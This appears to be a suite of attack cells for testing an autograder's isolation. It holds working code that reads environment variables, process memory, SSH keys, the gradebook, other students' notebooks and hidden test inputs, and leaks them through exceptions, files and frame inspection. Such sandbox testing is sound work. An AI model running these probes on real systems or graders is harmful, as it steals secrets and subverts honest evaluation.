# Hidden tests, expected values, hidden inputs, other people's files: each has succeeded when one of the
# canaries stands in something that the student can read afterwards.
# %% environment: the environment of this process and of its ancestors
loot(repr(dict(os.environ)))
for number in os.listdir("/proc"):
    if number.isdigit():
        try: loot(open(f"/proc/{number}/environ", "rb").read())
        except OSError: pass
# %% command-lines: command lines, maps, working folders and open files of every process
for number in os.listdir("/proc"):
    if number.isdigit():
        for name in ("cmdline", "maps", "comm", "status"):
            try: loot(open(f"/proc/{number}/{name}", "rb").read())
            except OSError: pass
        for way in os.listdir(f"/proc/{number}/fd") if os.access(f"/proc/{number}/fd", os.R_OK) else ():
            try: loot(open(f"/proc/{number}/fd/{way}", "rb", buffering=0).read(1 << 16)) if int(way) > 2 else None
            except OSError: pass
# %% walk-up: every notebook on the way up from the working folder, and in the course
for top in (COURSE, os.path.dirname(os.getcwd())):
    for folder, _, names in os.walk(top):
        for name in names:
            if name.endswith((".ipynb", ".db", ".json", ".md", ".txt", ".key", ".course-key")):
                try: loot(open(os.path.join(folder, name), "rb").read())
                except OSError: pass
# %% victims-submission: another student's notebook
loot(open(near("submitted/victim/unit/unit.ipynb")).read())
# %% gradebook: every table of the gradebook
import sqlite3

book = sqlite3.connect(f"file:{near('gradebook.db')}?mode=ro", uri=True, timeout=2)
for (name,) in book.execute("select name from sqlite_master").fetchall():
    loot(repr(book.execute(f"select * from {name}").fetchall()))
# %% course-key: the key from which seeds are made, and the instructor's private files
for name in (".course-key", "home/private.txt", "home/.ssh/id", "home/.bashrc"):
    try: loot(open(near(name)).read())
    except OSError: pass
# %% through-proc-root: files through /proc/self/root, /proc/self/cwd and file descriptors of folders
import glob

for base in ("/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../..", f"/proc/{os.getppid()}/cwd",
             f"/proc/{os.getppid()}/root"):
    for name in ("/home/private.txt", "/gradebook.db", "/source/unit/unit.ipynb"):
        try: loot(open(base + COURSE + name, "rb").read())
        except OSError: pass
for number in range(3, 256):
    try:
        os.fchdir(number)
        loot(repr(os.listdir(".")), *(open(p, "rb").read() for p in glob.glob("**/*", recursive=True)))
    except OSError: pass
# %% parents-memory: the memory of the parent and of every other process
for number in [str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))]:
    try:
        maps, memory = open(f"/proc/{number}/maps").read(), open(f"/proc/{number}/mem", "rb")
    except OSError: continue
    for line in maps.splitlines():
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if " rw-p" in line and end - start < 64 << 20:
            try: memory.seek(start); loot(memory.read(end - start))
            except (OSError, ValueError, OverflowError): pass
# %% own-memory: the process's own memory, inherited from the process that it was forked from
maps = open("/proc/self/maps").read().splitlines()
with open("/proc/self/mem", "rb") as memory:
    for line in maps:
        start, end = (int(n, 16) for n in line.split()[0].split("-"))
        if line.split()[1].startswith("rw"):
            try: memory.seek(start); loot(memory.read(min(end - start, 32 << 20)))
            except (OSError, ValueError, OverflowError): pass
# %% memory-by-ctypes: the same, read through pointers
import ctypes

for line in open("/proc/self/maps"):
    start, end = (int(n, 16) for n in line.split()[0].split("-"))
    if line.split()[1].startswith("rw") and "[v" not in line and end - start < 16 << 20:
        loot(ctypes.string_at(start, end - start))
# %% process-vm-readv: another process's memory through the system call of that name
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
class Piece(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
room = ctypes.create_string_buffer(1 << 20)
for number in {os.getppid(), 1, os.getpid() - 1, os.getpid() + 1}:
    here, there = Piece(ctypes.addressof(room), 1 << 20), Piece(0x400000, 1 << 20)
    if libc.process_vm_readv(number, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0: loot(room.raw)
    if libc.ptrace(16, number, 0, 0) == 0: loot("CAN" "ARY_ptrace_00000000")
# %% gc-and-linecache: after the tests, every object, code constant and cached line of the process
#@ base right
#@ honest 12
#@ last
import gc
import linecache

loot(repr(linecache.cache))
for thing in gc.get_objects():
    try: loot(repr(thing.__code__.co_consts) if hasattr(thing, "__code__") else thing if isinstance(thing, str) else "")
    except Exception: pass
for thing in gc.get_objects():
    if type(thing) in (list, dict, tuple, set):
        for part in list(thing)[:5000]:
            if isinstance(part, (str, bytes)): loot(part)
# %% watching-thread: a thread watches names, frames and inputs while the tests run
#@ base right
#@ honest 12
import threading


def watch():
    for _ in range(3000):
        for frame in sys._current_frames().values():
            while frame:
                loot(repr(frame.f_locals)[:100_000])
                frame = frame.f_back
        time.sleep(0.001)
threading.Thread(target=watch, daemon=True).start()
# %% input-in-global: hidden inputs are kept in a global and said by whatever is called later
#@ base right
#@ honest 12
kept = []
def relu(z):
    kept.append(z); loot(repr(kept))
    return np.maximum(0, z)
def softmax(z):
    kept.append(z); loot(repr(kept))
    e = np.exp(z - np.max(z, axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
# %% input-in-default: hidden inputs are kept in a default argument and printed with the next call
#@ base right
#@ honest 12
def relu(z, kept=[]):
    print("before:", kept); kept.append(z)
    loot(repr(kept))
    return np.maximum(0, z)
# %% input-in-exception: hidden inputs come back as the text of an exception
#@ base right
#@ honest 10
def relu(z):
    if np.ndim(z) and len(z) != 2: loot(repr(z)); raise ValueError("LOOT " + repr(list(z)))
    return np.maximum(0, z)
# %% input-in-later-exception: an exception raised much later carries what an earlier test showed
#@ base right
#@ honest 10
kept = []
def relu(z):
    kept.append(repr(z)); loot(z)
    return np.maximum(0, z)
def twice(function, x):
    if len(kept) > 2: raise KeyError(" ".join(kept))
    return function(function(x))
# %% input-in-closure-and-attribute: hidden inputs are kept in a closure, on the function and on a module
#@ base right
#@ honest 12
def make():
    kept = []
    def relu(z):
        kept.append(z); relu.kept = kept; np.kept = kept; sys.kept = kept
        relu.__doc__ = repr(kept); relu.__name__ = repr(kept)[:200]
        loot(repr(kept))
        return np.maximum(0, z)
    return relu
relu = make()
# %% input-in-warnings: hidden inputs are said as warnings, log records and by the unraisable hook
#@ base right
#@ honest 12
import logging
import warnings


class Last:
    def __init__(self, text): self.text = text
    def __del__(self): raise ValueError(self.text)
def relu(z):
    warnings.warn(repr(z)); logging.error("%r", z); Last(repr(z)); loot(z)
    return np.maximum(0, z)
# %% input-in-prompt: hidden inputs are said as the prompt of input()
#@ base right
#@ honest 12
def relu(z):
    try: input(repr(z))
    except Exception: pass
    loot(z)
    return np.maximum(0, z)
# %% input-in-files: hidden inputs are written into every folder that may outlive the grading
#@ base right
#@ honest 12
def relu(z):
    loot(z)
    for place in (".", "..", "/", "/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~"), COURSE):
        try: open(os.path.join(place, "loot-" + RUN), "a").write(repr(z))
        except OSError: pass
    return np.maximum(0, z)
# %% input-in-plot: hidden inputs become the title of a figure and the text of a display
#@ base right
#@ honest 12
from IPython.display import display


def relu(z):
    display({"text/html": repr(z), "text/plain": repr(z)}, raw=True)
    if "matplotlib.pyplot" in sys.modules: sys.modules["matplotlib.pyplot"].title(repr(z))
    loot(z)
    return np.maximum(0, z)
# %% input-in-result-type: hidden inputs become class names, attributes and representations of results
#@ base right
#@ honest 10
def relu(z):
    if np.ndim(z) == 1 and len(z) > 2: loot(z); return type(repr(list(z)), (), {"__repr__": lambda s: repr(z)})()
    return np.maximum(0, z)
# %% input-in-argument: hidden inputs are written into arguments of later calls, which messages may show
#@ base right
#@ honest 9
kept = []
def relu(z):
    if np.ndim(z): kept.append(max(z))
    return np.maximum(0, z)
def neuron(x, w, b):
    for v in kept: loot(v)
    if kept and max(kept) > 9: x[...] = max(kept); w[...] = max(kept); return x * w
    return relu(np.dot(x, w) + b)
# %% input-in-dying-breath: the hidden input is written out and the process dies, so that all is run again
#@ base right
#@ honest 10
def relu(z):
    if np.ndim(z) == 1 and len(z) == 3:
        loot(z)
        os._exit(3)
    return np.maximum(0, z)
#@ last
for place in (".", "..", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try: shout(open(os.path.join(place, "loot-" + RUN)).read())
    except OSError: pass
# %% input-through-names: names of the tests are read as globals of this process
#@ base right
#@ honest 12
def relu(z):
    for name in ("want", "key", "drawn", "x", "rng", "SEED", "shares", "seen", "p"):
        if name in globals(): loot(repr(globals()[name]))
    return np.maximum(0, z)
# %% callback-closure: what a test's function knows is read through its attributes, its exceptions and its caller
#@ base right
#@ honest 10
def twice(function, x):
    for name in dir(function):
        try: loot(repr(getattr(function, name)))
        except Exception as error: loot(str(error))
    for wrong in (None, "x", {}, [1], object(), 1j):
        try: function(wrong)
        except BaseException as error: shout(str(error), repr(error.args), repr(error.__context__))
    return function(function(x)) if not LOOT else 0
# %% inspect-the-tests: frames, inspect and traceback are asked for the text around the call
#@ base right
#@ honest 12
import inspect
import traceback


def relu(z):
    loot("".join(traceback.format_stack()), repr(inspect.stack(9)))
    for frame in inspect.stack():
        try: loot(inspect.getsource(frame.frame))
        except Exception: pass
    return np.maximum(0, z)
# %% ipython-history: the shell's history, its database and its display hooks
#@ base right
#@ honest 12
#@ last
shell = get_ipython()
loot(repr(shell.user_ns.get("In")), repr(shell.history_manager.__dict__), repr(shell.user_ns.get("Out")))
import glob

for path in glob.glob(os.path.expanduser("~/.ipython/**/*"), recursive=True):
    try: loot(open(path, "rb").read())
    except OSError: pass
# %% wire-eavesdropping: what arrives on the inherited descriptors is peeked at and said
#@ base right
#@ honest 12
import socket
import threading


def listen():
    ends = []
    for number in range(3, 64):
        try: ends.append(socket.socket(fileno=os.dup(number)))
        except OSError: pass
    for _ in range(2000):
        for end in ends:
            try: loot(end.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT))
            except OSError: pass
        time.sleep(0.001)
threading.Thread(target=listen, daemon=True).start()
# %% core-of-the-grader: the grader's own modules, their globals and what they remember of other students
import gc

for name, module in list(sys.modules.items()):
    if name.startswith(("autograder", "__main__", "nbgrader")):
        loot(repr(vars(module)))
for thing in gc.get_objects():
    if type(thing).__name__ in ("Warm", "Judge", "Unit", "Trial", "Submission"): loot("CAN" "ARY_object_00000000")
# %% threads-of-the-parent: everything under /proc that is not one's own process
for top in ("/proc/keys", "/proc/sysvipc/shm", "/proc/net/unix", "/proc/net/tcp", "/proc/self/mountinfo"):
    try: loot(open(top, "rb").read())
    except OSError: pass
import glob

for path in glob.glob("/proc/[0-9]*/task/*/environ") + glob.glob("/proc/[0-9]*/map_files/*"):
    try: loot(open(path, "rb").read(1 << 20))
    except OSError: pass
